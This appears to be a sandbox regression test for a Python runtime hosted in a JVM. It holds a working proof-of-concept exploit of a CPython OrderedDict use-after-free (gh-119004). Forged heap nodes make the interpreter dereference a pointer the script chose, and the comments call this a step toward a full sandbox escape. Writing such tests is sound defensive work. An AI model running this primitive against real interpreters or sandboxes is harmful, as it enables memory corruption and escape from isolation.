# expect: blocked
# CPython gh-119004 (fixed upstream in 2024 for 3.12/3.13; never in 3.11):
# OrderedDict == walks both dicts' linked lists of nodes while calling the
# keys' __eq__; an __eq__ that clears one OrderedDict frees the node being
# compared, and the walk then follows that freed node's `next`.  Without the
# reclaim below, plain python3.11 segfaults and in-process the JVM died
# (hs_err, libpython3.11).  Here the freed 32-byte nodes are reclaimed at
# once (pymalloc hands back the last freed block first) by bytearray buffers
# holding a forged node, whose `next` leads to a second forged node keyed by
# an object the OrderedDict never held: comparing it proves that a pointer
# chosen by the script was dereferenced as an object (a fake object with a
# fake type is the next step to a full escape).
# The same class, still open upstream (gh-142637): `del od[k]`, od.pop(k),
# od.move_to_end(k) with a key whose __eq__ clears od (JVM died in-process).
import collections
import struct

forged = []

class Stranger:
    def __eq__(self, other):
        forged.append(other)
        return True

    def __hash__(self):
        return 0

stranger = Stranger()
# _ODictNode is {key, hash, next, prev}; a bytes object's data is at +32.
last = struct.pack('<4Q', id(stranger), 0, 0, 0)
node = struct.pack('<3Q', id(stranger), 0, id(last) + 32)  # 25-byte buffer
s0 = s1 = s2 = s3 = s4 = s5 = None
calls = 0

class Key:
    def __eq__(self, other):
        global calls, s0, s1, s2, s3, s4, s5
        calls += 1
        if calls == 2:          # the first call is dict's own ==
            left.clear()        # frees both nodes of `left`
            s0 = bytearray(node); s1 = bytearray(node); s2 = bytearray(node)
            s3 = bytearray(node); s4 = bytearray(node); s5 = bytearray(node)
        return True

    def __hash__(self):
        return 3

left = collections.OrderedDict({Key(): 4, 5: 6})
right = collections.OrderedDict({Key(): 4, 5: 6})
try:
    left == right
except RuntimeError:            # "OrderedDict mutated during iteration"
    pass
if forged:
    print('ESCAPED: OrderedDict == walked into a forged node and compared an'
          ' object it never held')
